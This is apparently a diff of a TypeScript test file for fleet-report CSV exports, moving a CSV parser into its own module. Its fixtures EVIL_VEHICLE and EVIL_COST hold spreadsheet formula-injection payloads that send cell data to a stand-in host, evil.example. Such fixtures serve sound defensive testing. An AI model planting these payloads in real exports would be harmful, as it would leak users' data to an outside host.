@@ -5,40 +5,12 @@
  */
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { dialects, startTestServer, type Client, type TestServer } from './harness';
+import { parseCsv } from './csvRead';
 import { managementFleet, type ManagementFleet } from '../src/reports/testing/managementFleet';
 
 const YEAR = { from: '2025-01-01 00:00:00', to: '2025-12-31 23:59:59' };
 const EVIL_VEHICLE = '=HYPERLINK("http://evil.example/?d="&A1,"Camião")';
 const EVIL_COST = '=HYPERLINK("http://evil.example/c","Seguro")';
-
-/** RFC 4180 reader: quoted fields, doubled quotes, CRLF records. */
-function parseCsv(text: string): string[][] {
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let field = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i];
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') {
-        field += '"';
-        i++;
-      } else if (c === '"') quoted = false;
-      else field += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',') {
-      row.push(field);
-      field = '';
-    } else if (c === '\r' && text[i + 1] === '\n') {
-      row.push(field);
-      rows.push(row);
-      row = [];
-      field = '';
-      i++;
-    } else field += c;
-  }
-  return rows;
-}
 
 async function csv(c: Client, path: string, body: unknown): Promise<string[][]> {
   const res = await fetch(c.base + path, {
